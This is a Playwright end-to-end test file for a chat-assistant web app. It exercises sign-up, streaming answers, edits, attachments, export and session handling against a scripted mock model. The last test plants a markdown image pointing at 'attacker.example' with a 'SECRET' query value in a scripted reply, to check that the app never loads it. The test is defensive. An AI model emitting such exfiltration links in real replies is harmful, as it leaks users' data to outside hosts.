import { expect, test, type Page } from "@playwright/test";

import { composer, enqueue, expectAccessible, idToken, lastAssistant, newUser, resetModel, screenshot, signUp, stack } from "./support";

/**
 * One person's journey with the assistant: sign up → sign in → ask → streamed answer → stop →
 * reload mid-answer → retry after a failure → rename → delete.
 */
test.describe.serial("chat with the assistant", () => {
  let page: Page;
  const user = newUser("Ana");

  test.beforeAll(async ({ browser }) => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    page = await context.newPage();
    await resetModel();
  });
  test.afterAll(async () => page.context().close());

  test("sign-in screen is accessible and explains a wrong password", async () => {
    await page.goto(stack().appUrl);
    await expect(page.getByRole("heading", { name: "Sign in to Parley" })).toBeVisible();
    await expectAccessible(page);
    await screenshot(page, "sign-in");
    await page.getByLabel("Email").fill(stack().demoUser.email);
    await page.getByLabel("Password").fill("not-the-password");
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await expect(page.getByRole("alert")).toHaveText("Incorrect email or password.");
  });

  test("sign up, confirm with the code from the local mailbox (a wrong one is refused) and land signed in", async () => {
    await page.goto(stack().appUrl);
    await page.getByRole("button", { name: "Create an account" }).click();
    await page.getByLabel("Name").fill(user.name);
    await page.getByLabel("Email").fill(user.email);
    await page.getByLabel("Password").fill(user.password);
    await page.getByRole("button", { name: "Create account" }).click();
    await expect(page.getByRole("heading", { name: "Confirm your email" })).toBeVisible();
    await expectAccessible(page);
    // The local stack sends no e-mail: the confirm screen links to its mailbox, where the code is.
    const [mail] = await Promise.all([page.context().waitForEvent("page"), page.getByRole("link", { name: "Open the local mailbox" }).click()]);
    await expect(mail.getByRole("heading", { name: `Local mailbox to ${user.email}` })).toBeVisible();
    const message = mail.getByRole("article").filter({ hasText: "Your verification code is" });
    await expect(message).toHaveCount(1);
    const code = /Your verification code is (\d{6})\./.exec(await message.innerText())![1]!;
    await expectAccessible(mail);
    await mail.close();
    const wrong = String((Number(code) + 1) % 1_000_000).padStart(6, "0");
    await page.getByLabel("Confirmation code").fill(wrong);
    await page.getByRole("button", { name: "Confirm" }).click();
    await expect(page.getByRole("alert")).toHaveText("That code is not right. Check the email and try again.");
    await page.getByLabel("Confirmation code").fill(code);
    await page.getByRole("button", { name: "Confirm" }).click();
    await expect(page.getByRole("heading", { name: `Welcome, ${user.name}` })).toBeVisible();
    await expect(page.getByRole("status").filter({ hasText: "Live" })).toBeVisible({ timeout: 30_000 });
    await expectAccessible(page);
  });

  test("sign out and sign in again, greeted once by name (never first by the e-mail's local part)", async () => {
    await page.getByRole("button", { name: "Sign out" }).click();
    // Every greeting the page shows from here on, as it shows it.
    await page.evaluate(() => {
      const seen: string[] = [];
      (window as unknown as { greetings: string[] }).greetings = seen;
      new MutationObserver(() => {
        const heading = document.querySelector(".welcome h1");
        const text = heading && !heading.classList.contains("pending") ? (heading.textContent ?? "") : "";
        if (text && seen.at(-1) !== text) seen.push(text);
      }).observe(document.body, { subtree: true, childList: true, characterData: true, attributes: true });
    });
    await page.getByLabel("Email").fill(user.email);
    await page.getByLabel("Password").fill(user.password);
    await page.getByRole("button", { name: "Sign in", exact: true }).click();
    await expect(page.getByRole("heading", { name: `Welcome, ${user.name}` })).toBeVisible();
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => (window as unknown as { greetings: string[] }).greetings)).toEqual([`Welcome, ${user.name}`]);
  });

  test("ask and watch the answer stream, with highlighted code and token usage", async () => {
    await enqueue({
      text: "Here is the classic first program:\n\n```python\nprint(\"Hello, world!\")\n```\n\nRun it with `python hello.py`.",
      token_delay: 0.08,
    });
    await page.getByRole("button", { name: "New chat" }).click();
    await expect(page.getByRole("heading", { name: "What can I help with?" })).toBeVisible();
    await composer(page).fill("How do I print hello world in Python?");
    await composer(page).press("Enter");
    await expect(page.locator("article.message-user").last()).toContainText("How do I print hello world in Python?");
    // Streaming: the reply is busy and grows before it completes.
    const reply = lastAssistant(page);
    // The first answer may wait for the functions' cold start.
    await expect(reply).toHaveAttribute("aria-busy", "true", { timeout: 30_000 });
    await expect(reply).toContainText("Here is");
    await expect(reply).not.toHaveAttribute("aria-busy", "true");
    await expect(reply.locator("code.hljs .hljs-built_in")).toHaveText("print");
    await expect(reply.getByRole("button", { name: "Copy code" })).toBeVisible();
    await expect(reply.locator(".usage")).toHaveText(/\d+ in · \d+ out tokens/);
    // The conversation got its title from the first message.
    await expect(page.getByRole("navigation", { name: "Conversations" }).getByRole("link").first()).not.toContainText("New chat");
    await expectAccessible(page);
    await screenshot(page, "chat");
  });

  test("the account menu shows my activity today, this month and per day, as a chart and a table", async () => {
    const account = page.locator(".account-menu > button");
    const panel = page.getByRole("region", { name: "My account" });
    // The change feed counts the message a second or so after it was sent: reopen until it has.
    await expect(async () => {
      if ((await account.getAttribute("aria-expanded")) === "true") await account.click();
      await account.click();
      await expect(panel.getByText(/^[1-9][\d,]* messages?, [1-9][\d,]* tokens, \$\d+\.\d+$/).first()).toBeVisible({ timeout: 2_000 });
      await expect(panel.getByRole("figure")).toHaveAccessibleName(/[1-9]\d* messages? from .* busiest day/, { timeout: 2_000 });
    }).toPass({ timeout: 30_000 });
    await panel.getByText("Show as a table").click();
    await expect(panel.getByRole("table").getByRole("row")).toHaveCount(31);
    await expectAccessible(page);
    await page.keyboard.press("Escape");
    await expect(panel).toBeHidden();
    await expect(account).toBeFocused();
  });

  test("New chat clicked twice leaves no empty conversation; titles use the sidebar's width", async () => {
    const nav = page.getByRole("navigation", { name: "Conversations" });
    const links = nav.getByRole("link");
    const before = await links.count();
    await page.getByRole("button", { name: "New chat" }).click();
    await expect(page.getByRole("heading", { name: "What can I help with?" })).toBeVisible();
    await page.getByRole("button", { name: "New chat" }).click();
    await expect(page.getByRole("heading", { level: 1, name: "New chat" })).toBeVisible();
    await page.reload();
    await expect(page.getByRole("heading", { level: 1, name: "New chat" })).toBeVisible();
    await expect(links).toHaveCount(before);
    await expect(nav.getByRole("link", { name: /^New chat/ })).toHaveCount(0);
    // A long first message titles the chat; the title fills the row, whole on hover.
    const question = "What are the most important differences between lists and tuples in Python?";
    await enqueue({ text: "Lists change; tuples do not." });
    await composer(page).fill(question);
    await composer(page).press("Enter");
    await expect(page.locator("article.message-user").last()).toContainText(question);
    await expect(lastAssistant(page)).toContainText("tuples do not", { timeout: 30_000 });
    await expect(links).toHaveCount(before + 1);
    await page.getByRole("button", { name: "New chat" }).click();
    const title = nav.locator(".conversation-title").first();
    await expect(title).toHaveAttribute("title", /^What are the most important differences/);
    const shown = await title.evaluate((el) => ({ width: el.getBoundingClientRect().width, row: el.closest("li")!.getBoundingClientRect().width }));
    expect(shown.width).toBeGreaterThan(shown.row * 0.6);
    await page.reload();
    await expect(links).toHaveCount(before + 1);
    await nav.getByRole("link", { name: /^What are the most important/ }).click();
    await expect(page.locator("article.message-user").last()).toContainText(question);
  });

  test("Esc stops a streaming answer and the model call is cancelled", async () => {
    await enqueue({ text: "This answer goes on and on", endless: true, token_delay: 0.05 });
    await composer(page).fill("Tell me a very long story");
    await composer(page).press("Enter");
    const reply = lastAssistant(page);
    await expect(reply).toHaveAttribute("aria-busy", "true");
    await expect(reply).toContainText("on and on");
    await page.getByRole("button", { name: "Stop" }).waitFor();
    await page.keyboard.press("Escape");
    await expect(reply.getByText("Stopped")).toBeVisible();
    await expect(reply).not.toHaveAttribute("aria-busy", "true");
    const requests = (await (await fetch(`${stack().controlUrl}/requests`)).json()) as { disconnected: boolean }[];
    await expect.poll(async () => ((await (await fetch(`${stack().controlUrl}/requests`)).json()) as { disconnected: boolean }[]).at(-1)?.disconnected).toBe(true);
    expect(requests.length).toBeGreaterThan(0);
  });

  test("a reload mid-answer resumes the stream", async () => {
    const words = Array.from({ length: 40 }, (_, i) => `word${i + 1}`).join(" ");
    await enqueue({ text: words, token_delay: 0.1 });
    await composer(page).fill("Count slowly to forty");
    await composer(page).press("Enter");
    await expect(lastAssistant(page)).toContainText("word5");
    await page.reload();
    const reply = lastAssistant(page);
    await expect(reply).toContainText("word40", { timeout: 20_000 });
    await expect(reply).not.toHaveAttribute("aria-busy", "true");
    // Nothing was lost or doubled across the reload.
    await expect(reply.locator(".message-body")).toHaveText(words);
  });

  test("a failed answer shows the error, and Retry answers again", async () => {
    await enqueue({ status: 500, error_message: "scripted outage" }, { status: 500 }, { status: 500 }, { text: "Back online." });
    await composer(page).fill("Are you there?");
    await composer(page).press("Enter");
    const failure = page.locator(".message-error");
    await expect(failure).toContainText("The assistant could not answer", { timeout: 30_000 });
    await resetModel();
    await enqueue({ text: "Back online." });
    await failure.getByRole("button", { name: "Retry" }).click();
    await expect(lastAssistant(page)).toContainText("Back online.", { timeout: 30_000 });
  });

  test("regenerate makes a version of the answer; edit branches and the model reads that branch only", async () => {
    await enqueue({ text: "A second take." });
    await lastAssistant(page).getByRole("button", { name: "Regenerate", exact: true }).click();
    await expect(lastAssistant(page)).toContainText("A second take.");
    const answers = lastAssistant(page).getByRole("group", { name: "Answer versions" });
    await expect(answers).toContainText("2/2");
    await answers.getByRole("button", { name: "Previous version" }).click();
    await expect(lastAssistant(page)).toContainText("Back online.");
    await answers.getByRole("button", { name: "Next version" }).click();
    await expect(lastAssistant(page)).toContainText("A second take.");

    await enqueue({ text: "Answer to the edited question." });
    const question = () => page.locator("article.message-user").last();
    await question().getByRole("button", { name: "Edit" }).click();
    const box = page.getByRole("textbox", { name: "Edit message" });
    await box.fill("Are you there now?");
    await box.press("Enter");
    await expect(question()).toContainText("Are you there now?");
    await expect(lastAssistant(page)).toContainText("Answer to the edited question.");
    await expect(lastAssistant(page)).toBeInViewport();
    const versions = question().getByRole("group", { name: "Message versions" });
    await expect(versions).toContainText("2/2");
    // The model was sent the new branch: the edited question, not the one it replaces nor its answers.
    const requests = (await (await fetch(`${stack().controlUrl}/requests`)).json()) as { body: { messages: { content: string }[] } }[];
    const sent = requests.at(-1)!.body.messages.map((m) => m.content);
    expect(sent.at(-1)).toBe("Are you there now?");
    for (const gone of ["Are you there?", "Back online.", "A second take."]) expect(sent).not.toContain(gone);
    // The earlier branch is one click away.
    await versions.getByRole("button", { name: "Previous version" }).click();
    await expect(question()).toContainText("Are you there?");
    await expect(lastAssistant(page)).toContainText("A second take.");
    await expect(question().getByRole("group", { name: "Message versions" })).toContainText("1/2");
    await expectAccessible(page);
    await question().getByRole("group", { name: "Message versions" }).getByRole("button", { name: "Next version" }).click();
    await expect(question()).toContainText("Are you there now?");
  });

  test("a message over the limit is refused in the composer and by the server alike", async () => {
    const api = stack().httpApiUrl;
    const conversationId = /[0-9A-HJKMNP-TV-Z]{26}/.exec(page.url())![0];
    const token = await idToken(page);
    const me = (await (await fetch(`${api}/me`, { headers: { Authorization: `Bearer ${token}` } })).json()) as { limits: { messageChars: number } };
    const limit = me.limits.messageChars;
    await composer(page).fill("x".repeat(limit - 10));
    await expect(page.locator(".composer-count")).toHaveText(`${(limit - 10).toLocaleString("en-US")} / ${limit.toLocaleString("en-US")}`);
    await composer(page).fill("x".repeat(limit + 1));
    const refusal = page.locator(".composer").getByRole("alert");
    await expect(refusal).toHaveText(`Message is too long: ${(limit + 1).toLocaleString("en-US")} characters; the limit is ${limit.toLocaleString("en-US")}.`);
    await expect(page.locator(".composer").getByRole("button", { name: "Send" })).toBeDisabled();
    await composer(page).press("Enter");
    await expect(composer(page)).toHaveValue("x".repeat(limit + 1)); // kept, not sent
    const answer = await fetch(`${api}/conversations/${conversationId}/messages`, {
      method: "POST",
      headers: { Authorization: `Bearer ${token}`, "Content-Type": "application/json" },
      body: JSON.stringify({ content: "x".repeat(limit + 1) }),
    });
    expect(answer.status).toBe(422);
    const body = (await answer.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe("validation_error");
    await expect(refusal).toHaveText(body.error.message);
    await composer(page).fill("");
  });

  test("attach a file by drag and drop, remove another, and ask about it: the model reads the file", async () => {
    const drop = async (name: string, type: string, text: string) => {
      const dataTransfer = await page.evaluateHandle(
        ([n, t, body]) => {
          const transfer = new DataTransfer();
          const bytes = t.startsWith("image/") ? Uint8Array.from(atob(body), (c) => c.charCodeAt(0)) : body;
          transfer.items.add(new File([bytes], n, { type: t }));
          return transfer;
        },
        [name, type, text] as const,
      );
      await page.locator("form.composer").dispatchEvent("dragover", { dataTransfer });
      await page.locator("form.composer").dispatchEvent("drop", { dataTransfer });
    };
    const tray = page.getByRole("list", { name: "Attached files" });
    await drop("launch-notes.txt", "text/plain", "The launch window opens at 04:12 UTC on Thursday.\n");
    const pixel = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC";
    await drop("pixel.png", "image/png", pixel);
    const notes = tray.getByRole("listitem").filter({ hasText: "launch-notes.txt" });
    await expect(notes.getByRole("status")).toContainText("Ready", { timeout: 30_000 });
    const image = tray.getByRole("listitem").filter({ hasText: "pixel.png" });
    await expect(image.locator("img.attachment-thumb")).toBeVisible();
    await expectAccessible(page);
    await image.getByRole("button", { name: "Remove pixel.png" }).click();
    await expect(image).toHaveCount(0);

    await enqueue({ text: "The window opens at 04:12 UTC on Thursday." });
    await composer(page).fill("When does the launch window open?");
    await composer(page).press("Enter");
    await expect(lastAssistant(page)).toContainText("04:12 UTC on Thursday", { timeout: 30_000 });
    await expect(tray).toHaveCount(0);
    const question = page.locator("article.message-user").last();
    await expect(question.getByRole("button", { name: "Download launch-notes.txt" })).toBeVisible();
    const requests = (await (await fetch(`${stack().controlUrl}/requests`)).json()) as { body: { messages: { content: string }[] } }[];
    const asked = requests.at(-1)!.body.messages.at(-1)!.content;
    expect(asked).toContain("When does the launch window open?");
    expect(asked).toContain('<<<file 1: "launch-notes.txt"');
    expect(asked).toContain("The launch window opens at 04:12 UTC on Thursday.");
    expect(asked).not.toContain("pixel.png");
  });

  test("older messages load when scrolling up", async () => {
    // GIVEN a conversation with more history than one page (made over the HTTP API)
    const api = stack().httpApiUrl;
    const id = await page.evaluate(async (base) => {
      const lastUser = Object.keys(localStorage).find((k) => k.endsWith(".LastAuthUser"))!;
      const prefix = lastUser.replace(/LastAuthUser$/, "");
      const token = localStorage.getItem(`${prefix}${localStorage.getItem(lastUser)}.idToken`)!;
      const headers = { Authorization: `Bearer ${token}`, "Content-Type": "application/json" };
      const post = (path: string, body: unknown) =>
        fetch(base + path, { method: "POST", headers, body: JSON.stringify(body) }).then((r) => r.json());
      const conversation = await post("/conversations", { title: "Long history" });
      for (let n = 1; n <= 20; n++) await post(`/conversations/${conversation.id}/messages`, { content: `history ${n}` });
      return conversation.id as string;
    }, api);
    // WHEN it is opened, only the newest page is shown
    await page.goto(`${stack().appUrl}/#/c/${id}`);
    const log = page.getByRole("log", { name: "Messages" });
    await expect(log.getByText("history 20", { exact: true })).toBeVisible();
    await expect(log.getByText("history 1", { exact: true })).toHaveCount(0);
    // THEN scrolling to the top brings the older ones, keeping the reader's place
    for (let i = 0; i < 5 && (await page.getByText("Beginning of the conversation").count()) === 0; i++) {
      await page.locator(".message-scroller").evaluate((el) => el.scrollTo({ top: 0 }));
      await page.waitForTimeout(500);
    }
    await expect(log.getByText("history 1", { exact: true })).toBeAttached();
    await expect(page.getByText("Beginning of the conversation")).toBeVisible();
    await expect(log.locator("article")).toHaveCount(40);
  });

  test("export a conversation: choose the format, see it prepare, download the file", async () => {
    // GIVEN the long conversation just opened: 20 questions and their 20 answers
    await page.getByRole("button", { name: "Export", exact: true }).click();
    const dialog = page.getByRole("dialog", { name: "Export “Long history”" });
    await expect(dialog).toBeVisible();
    await expectAccessible(page);
    await dialog.getByRole("radio", { name: /Markdown/ }).check();
    // WHEN it is exported (the Step Functions workflow on the local stack)
    await dialog.getByRole("button", { name: "Export", exact: true }).click();
    // THEN the app says it is preparing, and the download link arrives over the WebSocket
    const link = dialog.getByRole("link", { name: "Download long-history.md" });
    await expect(link).toBeVisible({ timeout: 90_000 });
    await expect(dialog).toContainText("40 messages");
    const file = await page.request.get((await link.getAttribute("href"))!);
    expect(file.ok()).toBe(true);
    const text = await file.text();
    expect(text.startsWith("# Long history\n")).toBe(true);
    expect(text.split("\n### ")).toHaveLength(41);
    expect(text).toContain("\n\nhistory 20\n");
    await dialog.getByRole("button", { name: "Close" }).click();
    await expect(dialog).toHaveCount(0);
  });

  test("rename, search and delete with confirmation", async () => {
    const nav = page.getByRole("navigation", { name: "Conversations" });
    // A row's tools show on hover (or focus, or the open conversation), as a person's pointer finds them.
    const current = (await page.getByRole("heading", { level: 1 }).textContent()) ?? "";
    const row = nav.getByRole("listitem").filter({ has: page.getByRole("link", { name: current }) });
    await row.hover();
    await row.getByRole("button", { name: `Rename ${current}`, exact: true }).click();
    await page.getByRole("dialog").getByLabel("Title").fill("Python basics");
    await page.getByRole("dialog").getByRole("button", { name: "Save" }).click();
    await expect(nav.getByRole("link", { name: /Python basics/ })).toBeVisible();
    await nav.getByRole("link", { name: /Python basics/ }).click();
    await expect(page.getByRole("heading", { level: 1, name: "Python basics" })).toBeVisible();

    await nav.getByRole("searchbox").fill("nothing like this");
    await expect(nav.getByText("No conversation title matches.")).toBeVisible();
    await expect(nav.getByRole("region", { name: "Messages" }).getByText("No messages match.")).toBeVisible();
    await nav.getByRole("searchbox").fill("python");
    // The messages that mention it are listed too, under "Messages found".
    await expect(nav.getByRole("list", { name: "Conversation list" }).getByRole("link", { name: /Python basics/ })).toBeVisible();
    await nav.getByRole("searchbox").fill("");

    await nav.getByRole("button", { name: "Delete Python basics" }).click();
    const dialog = page.getByRole("dialog", { name: "Delete conversation?" });
    await expect(dialog).toBeVisible();
    // A private chat is nobody else's: nothing is deleted "for everyone".
    await expect(dialog).toContainText("“Python basics” and all its messages will be deleted. This cannot be undone.");
    await expectAccessible(page);
    await dialog.getByRole("button", { name: "Delete" }).click();
    await expect(nav.getByRole("link", { name: /Python basics/ })).toHaveCount(0);
    await expect(page.getByRole("heading", { name: `Welcome, ${user.name}` })).toBeVisible();
  });

  test("going offline shows the connection state, and coming back reconnects", async () => {
    const context = page.context();
    await context.setOffline(true);
    await expect(page.getByRole("status").filter({ hasText: "Reconnecting…" })).toBeVisible();
    await context.setOffline(false);
    await expect(page.getByRole("status").filter({ hasText: "Live" })).toBeVisible({ timeout: 30_000 });
  });

  test("dark theme and phone width stay accessible", async () => {
    await enqueue({ text: "Dark mode **works**:\n\n```js\nconst theme = \"dark\";\n```" });
    await page.getByRole("button", { name: "New chat" }).click();
    await composer(page).fill("Show me some code");
    await composer(page).press("Enter");
    await expect(lastAssistant(page).locator("code.hljs")).toBeVisible();
    await page.getByRole("button", { name: "Switch to dark theme" }).click();
    await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
    await expectAccessible(page);
    await screenshot(page, "chat-dark");
    await page.setViewportSize({ width: 390, height: 844 });
    await expect(page.getByRole("button", { name: "Open conversation list" })).toBeVisible();
    await expectAccessible(page);
    await screenshot(page, "phone");
    await page.getByRole("button", { name: "Open conversation list" }).click();
    await expect(page.getByRole("button", { name: "New chat" })).toBeVisible();
    await screenshot(page, "phone-menu");
    await page.getByRole("button", { name: "Switch to light theme" }).click();
    await page.setViewportSize({ width: 1280, height: 800 });
  });

  test("a session that is gone sends the person back to sign in, saying so", async () => {
    await page.evaluate(() => localStorage.clear());
    await page.getByRole("button", { name: "New chat" }).click();
    await composer(page).fill("Anyone there?");
    await composer(page).press("Enter");
    await expect(page.getByRole("heading", { name: "Sign in to Parley" })).toBeVisible();
    await expect(page.getByRole("status").or(page.getByRole("alert")).filter({ hasText: "Your session has ended" })).toBeVisible();
    await expectAccessible(page);
  });

  test("a tab whose session belongs to a user pool that was reset says so after a reload", async () => {
    await page.evaluate(() => {
      localStorage.setItem("CognitoIdentityServiceProvider.a-client-of-a-reset-pool.LastAuthUser", "gone");
      localStorage.setItem("CognitoIdentityServiceProvider.a-client-of-a-reset-pool.gone.idToken", "x.y.z");
    });
    await page.reload();
    await expect(page.getByRole("heading", { name: "Sign in to Parley" })).toBeVisible();
    await expect(page.getByText(/Your session no longer exists: the local stack started with clean data/)).toBeVisible();
  });
});

test.describe("images in replies", () => {
  test("an image in a reply is shown as a link and nothing is requested from its host", async ({ browser }) => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    const page = await context.newPage();
    // Every request the browser starts for the image host is recorded, then refused before it
    // leaves the machine.
    const toImageHost: string[] = [];
    context.on("request", (request) => {
      if (new URL(request.url()).hostname === "attacker.example") toImageHost.push(request.url());
    });
    await context.route(/^https?:\/\/attacker\.example\//, (route) => route.abort("blockedbyclient"));
    try {
      await signUp(page, newUser("Ida"));
      await enqueue({ text: "Here is your chart: ![chart](https://attacker.example/c.png?d=SECRET) — enjoy." });
      await page.getByRole("button", { name: "New chat" }).click();
      await composer(page).fill("Draw me a chart");
      await composer(page).press("Enter");
      const reply = lastAssistant(page);
      await expect(reply).toContainText("enjoy", { timeout: 30_000 });
      await expect(reply).not.toHaveAttribute("aria-busy", "true");
      expect(toImageHost).toEqual([]);
      await expect(reply.locator("img")).toHaveCount(0);
      const link = reply.getByRole("link", { name: /chart/ });
      await expect(link).toHaveAttribute("href", "https://attacker.example/c.png?d=SECRET");
      await expect(link).toContainText("https://attacker.example/c.png?d=SECRET");
      // The same reply rendered from the fetched history.
      await page.reload();
      await expect(lastAssistant(page).getByRole("link", { name: /chart/ })).toBeVisible();
      await expect(page.locator("img, link[rel=preload], link[rel=prefetch]")).toHaveCount(0);
      await expectAccessible(page);
      expect(toImageHost).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
